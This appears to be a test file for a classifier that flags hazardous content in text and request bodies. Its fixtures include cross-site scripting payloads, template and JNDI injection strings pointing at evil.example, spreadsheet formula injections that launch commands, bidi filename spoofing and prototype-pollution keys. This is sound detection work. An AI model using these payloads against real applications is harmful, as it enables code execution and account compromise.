import fc from "fast-check";
import { describe, expect, it } from "vitest";
import type { HazardKind } from "../../../../src/evidence/kinds.ts";
import { classifyBody } from "../../../../src/observe/classify/classify-body.ts";
import { hazardsIn } from "../../../../src/observe/classify/hazards/hazards.ts";

describe("what may act on whoever shows a text", () => {
  it.each<readonly [HazardKind, string]>([
    ["script", "<script>alert(1)</script>"],
    ["script", 'hello <SCRIPT src="//evil.example/x.js">'],
    ["script", "<script/x>alert(1)"],
    ["script", '<iframe src="https://evil.example"></iframe>'],
    ["script", "<object data=x></object>"],
    ["script", '<meta http-equiv="refresh" content="0;url=https://evil.example">'],
    ["event-handler", "<img src=x onerror=alert(1)>"],
    ["event-handler", '<svg/onload="alert(1)">'],
    ["event-handler", "<body onload = 'x()'>"],
    ["script-url", "javascript:alert(1)"],
    ["script-url", '<a href="JavaScript:alert(1)">x</a>'],
    ["script-url", "[click](javascript:alert(1))"],
    ["script-url", " vbscript:msgbox(1)"],
    ["script-url", "java\tscript:alert(1)"],
    ["script-url", '<a href="jav\r\nascript:alert(1)">x</a>'],
    ["data-url", "data:text/html,<b>x</b>"],
    ["data-url", '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>'],
    ["data-url", "data:image/svg+xml;base64,PHN2Zz4="],
    ["template", "{{7*7}}"],
    ["template", "Hello {{ constructor.constructor('x')() }}"],
    ["template", `$\{jndi:ldap://evil.example/a}`],
    ["template", "<%= system('id') %>"],
    ["template", "#{7*7}"],
    ["template", "{% for x in y %}"],
    ["formula", '=HYPERLINK("https://evil.example","click")'],
    ["formula", "=cmd|' /C calc'!A0"],
    ["formula", "+SUM(1+1)*cmd|' /C calc'!A0"],
    ["formula", "@SUM(A1:A2)"],
    ["formula", "-2+3+cmd|' /C calc'!A0"],
    ["formula", "=A1+B2"],
    ["formula", '＝HYPERLINK("https://evil.example","click")'],
    ["formula", "＋SUM(1+1)*cmd|' /C calc'!A0"],
    ["formula", "＠SUM(A1:A2)"],
    ["formula", "=1+1"],
    ["formula", "\t=IMPORTXML(A1)"],
    ["control-character", "a\u0000b"],
    ["control-character", "a\u001b[31mred"],
    ["control-character", "a\u009bb"],
    ["bidi-control", "user\u202egnp.exe"],
    ["bidi-control", "a\u2066b\u2069"],
  ])("finds %s in %j", (kind, text) => {
    expect(hazardsIn(text)).toContain(kind);
  });

  it.each([
    "Jane Doe",
    "+1 (415) 555-0123",
    "+49 30 1234567",
    "-12.50",
    "-1,000.00",
    "@jane",
    "@acme/package",
    "@media (max-width: 600px)",
    "=",
    "==",
    "= is the sign of equality",
    "-- no comment (really) --",
    "- a list item (with brackets)",
    "+1 from me (thanks)",
    "a < b and c > d",
    "x<y",
    "<jane@acme.com>",
    "<b>bold</b> and <a href='https://acme.com'>a link</a>",
    '<p class="online">text</p>',
    "conditions on = off",
    "the script: act one",
    "see data:none",
    "data: 17 items",
    "data:image/png;base64,iVBORw0KGgo=",
    "learn javascript: the good parts",
    "JavaScript: The Good Parts",
    '{"a":1}',
    "{0} of {1}",
    "$5 {each}",
    "50 % of <all>",
    "line one\r\nline two\tend",
    "مرحبا\u200f!",
    "zero\u200bwidth",
    "https://acme.com/a?b={c}",
  ])("finds nothing in %j", (text) => {
    expect(hazardsIn(text)).toEqual([]);
  });

  it("needs time that is linear in the length of the text, whatever it holds", () => {
    fc.assert(
      fc.property(
        fc.constantFrom("<a ", "<a on", "{{", "${", "<%", "=A1+", "=a|", "data:", "javascript:", "<svg ", "<meta ", "on=", "=((", "\u202e"),
        (part) => {
          expect(Array.isArray(hazardsIn(part.repeat(100_000)))).toBe(true);
        },
      ),
      { numRuns: 30 },
    );
  });
});

describe("hazards of a body", () => {
  const hazards = (text: string) =>
    classifyBody(new TextEncoder().encode(text), { contentType: "application/json", truncated: false, knownMaps: [] }).hazards;

  it("are told by path and kind with their number, also behind escapes", () => {
    const body =
      '{"data":[{"bio":"\\u003cscript>x</script>","n":"{{x}}"},{"bio":"<script>y</script>","n":"fine"},{"bio":"fine","n":"=SUM(A1)"}]}';
    expect(hazards(body)).toEqual([
      { path: "$.data[].bio", kind: "script", count: 2 },
      { path: "$.data[].n", kind: "formula", count: 1 },
      { path: "$.data[].n", kind: "template", count: 1 },
    ]);
  });

  it("are keys that change what objects inherit", () => {
    expect(hazards('{"a":{"__proto__":{"isAdmin":true}},"constructor":{"prototype":{"x":1}},"prototype":1}')).toEqual([
      { path: "$.a.__proto__", kind: "prototype-key", count: 1 },
      { path: "$.constructor.prototype", kind: "prototype-key", count: 1 },
    ]);
  });

  it.each([
    ["application/x-www-form-urlencoded", "__proto__[admin]=true&a=1", "$['__proto__[admin]']"],
    ["application/x-www-form-urlencoded", "constructor%5Bprototype%5D%5Badmin%5D=true&a=1", "$['constructor[prototype][admin]']"],
    ["application/json", '{"user[__proto__][admin]":true,"a":1}', "$['user[__proto__][admin]']"],
    ["application/json", '{"__proto__.admin":true,"a":1}', "$['__proto__.admin']"],
  ])("are paths to them in a key of %s: %s", (contentType, text, path) => {
    const { hazards: found } = classifyBody(new TextEncoder().encode(text), { contentType, truncated: false, knownMaps: [] });
    expect(found).toEqual([{ path, kind: "prototype-key", count: 1 }]);
  });

  it.each(["proto", "__proto", "my__proto__x", "constructor", "constructorprototype", "prototype"])(
    "are not in a key such as %s",
    (key) => {
      expect(hazards(JSON.stringify({ [key]: 1, a: "b" }))).toEqual([]);
    },
  );

  it.each(["=HYPERLINK(A1)", "＝1+1", "{{7*7}}", "<img src=x onerror=alert(1)>"])(
    "are found in a key among fields, which is not printed: %s",
    (key) => {
      const { hazards: found = [], shape } = classifyBody(new TextEncoder().encode(JSON.stringify({ x: { id: 1, note: "b", [key]: 2 } })), {
        contentType: "application/json",
        truncated: false,
        knownMaps: [],
      });
      expect(found).toMatchObject([{ path: "$.x{}", count: 1 }]);
      expect(shape.map(({ path }) => path)).toEqual(["$", "$.x", "$.x.id", "$.x.note", "$.x{}"]);
    },
  );

  it("are found in keys that are data, which are never printed", () => {
    const body = JSON.stringify({ names: { "<script>canary</script>": 1, "jane@acme.com": 2 } });
    expect(hazards(body)).toEqual([{ path: "$.names{}", kind: "script", count: 1 }]);
  });
});
